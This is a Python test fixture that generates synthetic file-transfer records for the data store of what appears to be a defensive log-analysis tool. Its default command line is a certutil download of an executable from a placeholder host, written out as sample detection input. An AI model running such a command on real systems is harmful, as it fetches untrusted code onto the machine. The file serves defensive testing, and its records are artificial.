"""Transfers made up for tests of the store."""

from __future__ import annotations

import random

from tidewaiter.schema.transfer import (
    SEVERITIES,
    STAGES,
    Device,
    EvidenceRow,
    File,
    Landing,
    Origin,
    Process,
    Reason,
    StageRecord,
    Transfer,
)


def made(
    identity: str = "aaaa0001",
    *,
    seen: tuple[str, ...] = ("commanded",),
    logs: tuple[str, ...] = ("one.evtx",),
    score: int = 30,
    host: str | None = "WS01.example.com",
    time: str | None = "2026-01-02T10:00:00Z",
    utility: str = "certutil",
    summary: str = "certutil -urlcache -f http://files.example.com/a.exe",
) -> Transfer:
    """A transfer with these stages, each shown by every log."""
    rows = [
        EvidenceRow(log_file=log, record=str(number), time=time, log_source="windows_sysmon", summary=summary)
        for number, log in enumerate(logs, 1)
    ]
    stages = {name: StageRecord(state="not_seen") for name in STAGES}
    stages |= {name: StageRecord(state="seen", time=time, evidence=list(range(len(rows)))) for name in seen}
    return Transfer(
        id=identity,
        time=time,
        device=Device(hostname=host, ip="192.0.2.10"),
        utility=utility,
        process=Process(command_line=summary),
        src=Origin(url="http://files.example.com/a.exe"),
        dst=Landing(path="C:\\Temp\\a.exe"),
        file=File(name="a.exe"),
        stages=stages,
        severity=SEVERITIES[min(4, score // 20)],
        score=score,
        reasons=[Reason(id="asked", weight=score, text="asked")],
        evidence=rows,
    )


def many(count: int, seed: int = 1) -> list[Transfer]:
    """Different transfers, the same for the same seed."""
    chance = random.Random(seed)
    return [
        made(
            f"{chance.getrandbits(64):016x}",
            seen=tuple(chance.sample(STAGES, chance.randint(1, 4))),
            logs=tuple(f"log{number}.evtx" for number in range(chance.randint(1, 4))),
            score=chance.randint(0, 100),
            host=f"ws{chance.randint(1, 20):02}.example.com",
            time=f"2026-01-{chance.randint(1, 28):02}T10:00:00Z",
        )
        for _ in range(count)
    ]
